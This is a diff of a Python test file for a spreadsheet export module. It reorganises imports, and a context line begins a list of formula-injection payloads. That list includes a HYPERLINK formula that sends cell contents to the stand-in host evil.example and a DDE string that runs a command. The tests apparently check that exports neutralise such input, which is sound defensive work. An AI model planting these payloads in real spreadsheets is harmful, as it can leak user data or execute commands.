@@ -8,15 +8,9 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from exports.xlsx import (
-    Column,
-    Highlight,
-    Kind,
-    Sheet,
-    display_width,
-    safe_sheet_title,
-    write_xlsx,
-)
+from exports.xlsx import safe_sheet_title, write_xlsx
+from exports.xlsx_cells import display_width
+from exports.xlsx_spec import Column, Highlight, Kind, Sheet
 from models.core.errors import Cancelled
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3",
